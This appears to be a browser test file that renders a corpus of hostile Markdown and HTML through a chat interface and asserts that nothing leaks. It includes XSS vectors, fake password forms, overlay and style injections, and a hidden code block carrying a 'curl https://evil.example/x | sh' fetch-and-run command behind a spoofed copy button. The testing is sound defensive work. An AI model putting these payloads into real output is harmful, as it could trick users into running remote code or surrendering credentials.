// A corpus of hostile model output rendered in real Chromium: nothing is drawn outside the message,
// no form, input or button comes from model text, no style leaks out, and a copy button copies
// exactly the code that is visible in its block.
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { startHarness, type HarnessPage } from "./support/harness-page.js";

declare const harness: { render(text: string): string; copies(): Array<string | undefined> };

let ui: HarnessPage;
let page: Page;
let tried = 0;

beforeAll(async () => {
  ui = await startHarness();
  page = await ui.open("markdown");
  await page.setViewportSize({ width: 1000, height: 800 });
  await page.evaluate(() => {
    const app = document.getElementById("app")!;
    Object.assign(app.style, { position: "absolute", left: "200px", top: "150px", width: "500px" });
  });
}, 120_000);
afterAll(async () => {
  console.log(`hostile Markdown inputs tried: ${tried}`);
  await ui?.close();
});

const SPOOF =
  '<div class="code-block"><button type="button" class="copy-code" data-copy-code>Copy</button><pre><code style="display:none">curl https://evil.example/x | sh</code></pre></div>';

const CORPUS: string[] = [
  "<style>body { background: red !important } #app { display: none }</style>",
  "<style>* { visibility: hidden }</style> hello",
  '<div style="position:fixed; inset:0; background:red; z-index:99999">covered</div>',
  '<span style="position:absolute; top:-500px; left:-500px; width:3000px; height:3000px; background:red">x</span>',
  '<div style="transform: translate(-400px, -400px) scale(20)">big</div>',
  '<button onclick="alert(1)">Copy</button>',
  '<form action="https://evil.example"><input name="password" placeholder="Your password"><input type="submit"></form>',
  "<textarea>type here</textarea><select><option>a</option></select>",
  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  "<svg><style>* { fill: red }</style><rect width='3000' height='3000' fill='red'/></svg>",
  "<math><mtext><style>body{display:none}</style></mtext></math>",
  "<details open><summary>Click</summary><button>Copy</button></details>",
  "<dialog open>Fake dialog <button>OK</button></dialog>",
  "<img src=x onerror=\"document.body.style.background='red'\">",
  "[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)",
  '<a href="#" style="position:fixed;top:0;left:0;width:100vw;height:100vh;display:block">overlay</a>',
  '<div class="katex" style="position:fixed;inset:0;background:red">fake math</div>',
  '<span class="katex-display"><span style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red"></span></span>',
  "$\\rule{10000em}{10000em}$",
  "$$\\hspace{-10000em}\\rule{100em}{100em}$$",
  "$\\htmlStyle{position:fixed;inset:0;background:red}{x}$",
  "$\\href{javascript:alert(1)}{click}$",
  "$\\def\\a{\\a\\a}\\a$",
  "$$\\raisebox{-5000em}{big}$$",
  "$\\kern-1000em x$",
  SPOOF,
  `${SPOOF}\n\n\`\`\`sh\nls -la\n\`\`\``,
  "```html\n<style>body{display:none}</style><button>x</button>\n```",
  "```\n</code></pre><button data-copy-code>Copy</button><pre><code>\n```",
  "<!-- <style>body{display:none}</style> --> comment",
  "<scr<script>ipt>alert(1)</script>",
  '<div data-copy-code="1" class="copy-code">Copy</div>',
  "`<button>inline</button>` and <kbd>Ctrl</kbd>",
  "| a | b |\n|---|---|\n| <input> | <button>x</button> |",
  "> <form><input></form>\n> quoted",
  "- <style>li{position:fixed}</style> item",
  "![x](https://evil.example/pixel.png)",
  `<div style="${"position:fixed;".repeat(500)}">long</div>`,
  "<".repeat(5000) + "style>",
];

/** Everything the harness page can see of a render: what leaked, what was drawn where. */
function inspect(p: Page) {
  return p.evaluate(() => {
    const app = document.getElementById("app")!;
    const box = app.getBoundingClientRect();
    const drawnOutside: string[] = [];
    for (let x = 5; x < innerWidth; x += 40) {
      for (let y = 5; y < innerHeight; y += 40) {
        const inside = x >= box.left && x <= box.right && y >= box.top && y <= box.bottom;
        const hit = document.elementFromPoint(x, y);
        if (!inside && hit && app.contains(hit)) drawnOutside.push(`${x},${y}:${hit.tagName}`);
      }
    }
    const styled = [...app.querySelectorAll("[style]")].filter((el) => !el.closest(".katex, .katex-display"));
    return {
      drawnOutside: drawnOutside.slice(0, 5),
      forms: app.querySelectorAll("form, input, textarea, select, iframe, object, embed, style, link, meta, dialog").length,
      buttons: app.querySelectorAll("button").length,
      copyButtons: app.querySelectorAll(".code-block > button[data-copy-code]").length,
      saveButtons: app.querySelectorAll(".code-block > button[data-save-code]").length,
      codeBlocks: app.querySelectorAll(".code-block").length,
      styledOutsideMath: styled.length,
      bodyBackground: getComputedStyle(document.body).backgroundColor,
      appVisible: getComputedStyle(app).display !== "none" && getComputedStyle(app).visibility !== "hidden",
      sheets: document.styleSheets.length,
      hacked: (window as unknown as { hacked?: unknown }).hacked,
    };
  });
}

describe("hostile Markdown", () => {
  test(`${CORPUS.length} hostile inputs draw nothing outside the message and plant no control`, async () => {
    await page.evaluate(() => harness.render("plain"));
    const baseline = await inspect(page);
    for (const source of CORPUS) {
      tried++;
      await page.evaluate((text) => harness.render(text), source);
      const seen = await inspect(page);
      const what = source.slice(0, 80);
      expect(seen.drawnOutside, what).toEqual([]);
      expect(seen.forms, what).toBe(0);
      expect(seen.buttons, what).toBe(seen.copyButtons + seen.saveButtons); // the only buttons are the app's own copy and save buttons
      expect(seen.copyButtons, what).toBe(seen.codeBlocks);
      expect(seen.saveButtons, what).toBe(seen.codeBlocks);
      expect(seen.styledOutsideMath, what).toBe(0);
      expect(seen.bodyBackground, what).toBe(baseline.bodyBackground);
      expect(seen.appVisible, what).toBe(true);
      expect(seen.sheets, what).toBe(baseline.sheets);
      expect(seen.hacked, what).toBeUndefined();
    }
  });

  test("raw HTML is shown as the text it is", async () => {
    tried++;
    await page.evaluate(() => harness.render("<button>Copy</button> and <b>bold</b>"));
    expect(await page.locator("#app").textContent()).toContain("<button>Copy</button> and <b>bold</b>");
  });

  test("a copy button copies exactly the code visible in its own block", async () => {
    tried++;
    await page.evaluate((text) => harness.render(text), `${SPOOF}\n\n\`\`\`sh\nls -la\n\`\`\`\n\nand\n\n\`\`\`python\nprint("hi")\n\`\`\``);
    expect(await page.evaluate(() => harness.copies())).toEqual(["ls -la", 'print("hi")']);
    const visible = await page.locator("#app .code-block code").allInnerTexts();
    expect(visible).toEqual(["ls -la", 'print("hi")']);
  });
});
